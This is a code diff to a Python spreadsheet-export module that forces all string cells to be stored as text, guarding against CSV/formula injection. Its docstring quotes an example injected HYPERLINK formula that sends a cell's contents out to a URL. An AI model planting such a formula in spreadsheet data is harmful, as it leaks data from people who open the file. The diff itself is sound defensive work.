@@ -101,8 +101,21 @@ def sheet_title(caption: str, taken: set[str]) -> str:
 _NOT_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
 
 
-def _xlsx_value(value):
+def _printable(value):
+    # openpyxl refuses these characters as soon as a cell takes them
     return _NOT_IN_XLSX.sub("\ufffd", value) if isinstance(value, str) else value
+
+
+def _text_only(book) -> None:
+    """Every string cell is stored as text. openpyxl makes a string starting with `=` a
+    formula (and `#N/A` an error value): a hook title `=HYPERLINK("http://…?leak="&D2)`
+    would run in the client's Excel (OWASP: CSV/formula injection). Text from outside is
+    never a formula here — and we write no formulas of our own."""
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str):
+                    cell.data_type = "s"
 
 
 def add_table(book, title: str, header: list[str], rows: Iterable[Iterable]) -> None:
@@ -113,7 +126,7 @@ def add_table(book, title: str, header: list[str], rows: Iterable[Iterable]) -> 
     for cell in sheet[1]:
         cell.font = Font(bold=True)
     for row in rows:
-        sheet.append([_xlsx_value(v) for v in row])
+        sheet.append([_printable(v) for v in row])
     for column in sheet.iter_cols(min_row=1, max_row=min(sheet.max_row, 200)):
         longest = max((len(str(c.value or "")) for c in column), default=4)
         sheet.column_dimensions[column[0].column_letter].width = min(60, max(8, longest * 1.6))
@@ -121,6 +134,8 @@ def add_table(book, title: str, header: list[str], rows: Iterable[Iterable]) -> 
 
 
 def workbook_bytes(book) -> bytes:
+    """The one way a workbook leaves the product (reports, statements, ledgers, dossier)."""
+    _text_only(book)
     buffer = io.BytesIO()
     book.save(buffer)
     return buffer.getvalue()
